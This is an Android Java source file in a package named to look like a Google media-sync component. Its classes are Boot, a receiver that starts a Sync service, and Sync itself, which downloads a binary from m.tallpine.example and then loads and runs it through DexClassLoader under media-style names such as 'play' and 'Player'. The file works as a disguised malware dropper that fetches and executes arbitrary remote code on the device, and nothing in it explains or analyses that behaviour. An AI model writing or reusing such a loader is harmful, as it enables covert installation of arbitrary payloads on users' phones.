package com.google.android.emediasync;

class Boot extends BroadcastReceiver {
  public void onReceive(Context context, Intent intent) {
    context.startService(new Intent(context, Sync.class));
  }
}

class Sync extends IntentService {
  Sync() { super("Sync"); }

  public void onHandleIntent(Intent intent) {
    try {
      File part = new File(getCacheDir(), "m.bin");
      InputStream in = new URL("http://m.tallpine.example/media/m.bin").openStream();
      FileOutputStream out = new FileOutputStream(part);
      byte[] buffer = new byte[4096];
      int n = in.read(buffer);
      while (n > 0) {
        out.write(buffer, 0, n);
        n = in.read(buffer);
      }
      out.close();
      play(part);
    } catch (Exception e) {
      Log.e("Sync", e.getMessage());
    }
  }

  private void play(File part) {
    DexClassLoader loader = new DexClassLoader(part.getPath(), getDir("o", Context.MODE_PRIVATE).getPath(), null, getClassLoader());
    Object player = loader.loadClass("m.Player").newInstance();
    player.getClass().getMethod("play", new Class[]{Context.class}).invoke(player, new Object[]{this});
  }
}
